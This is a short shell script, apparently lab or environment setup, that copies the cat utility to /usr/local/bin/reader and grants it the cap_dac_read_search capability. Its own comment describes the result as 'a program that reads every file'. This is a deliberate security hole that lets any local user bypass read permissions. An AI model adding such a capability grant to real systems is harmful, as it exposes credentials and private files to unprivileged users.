#!/bin/sh
# A program that reads every file.
set -eu
mkdir -p /usr/local/bin
cp /usr/bin/cat /usr/local/bin/reader
setcap cap_dac_read_search+ep /usr/local/bin/reader
